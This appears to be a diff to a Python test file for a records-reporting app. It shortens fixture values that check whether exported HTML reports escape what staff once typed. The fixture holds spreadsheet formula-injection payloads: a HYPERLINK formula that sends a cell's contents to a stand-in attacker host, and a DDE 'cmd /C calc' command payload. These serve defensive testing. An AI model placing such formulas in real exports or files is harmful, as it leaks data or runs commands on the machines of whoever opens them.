@@ -21,7 +21,8 @@ from tests.records.test_disclosure import fill, seed_activities
 from tests.records.test_import import helpline
 
 # Before country background was a code, the close form stored what staff typed.
-TYPED = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+47 Norge", "-Syria"]
+# (at most 32 characters, as the column held them)
+TYPED = ['=HYPERLINK("http://e.vil/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "+47 Norge", "-Syria"]
 
 
 @pytest.fixture
@@ -85,7 +86,7 @@ async def test_the_html_page_is_self_contained_with_svg_charts(
     assert not re.search(r'href="(?!#)', page)
     assert "Årsrapport 2022" in page
     # What staff once typed is shown as text, not as markup.
-    assert "&#34;http://evil.example/?&#34;" in page or "&quot;http://evil.example/?&quot;" in page
+    assert "&#34;http://e.vil/?&#34;" in page or "&quot;http://e.vil/?&quot;" in page
 
 
 async def test_the_public_report_hides_the_same_cells_in_every_format(
